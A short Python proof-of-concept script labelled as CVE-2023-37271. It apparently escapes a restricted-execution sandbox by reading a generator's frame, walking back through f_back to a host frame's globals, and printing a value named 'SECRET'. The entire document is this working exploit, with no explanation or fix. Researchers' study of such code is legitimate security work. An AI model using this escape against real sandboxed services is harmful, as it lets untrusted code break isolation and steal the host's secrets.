# CVE-2023-37271: a running generator's frame, walked back to a host frame's globals.
def walk():
    yield gen.gi_frame.f_back
gen = walk()
frame = next(gen)
while frame is not None and "SECRET" not in frame.f_globals:
    frame = frame.f_back
print(frame.f_globals["SECRET"])
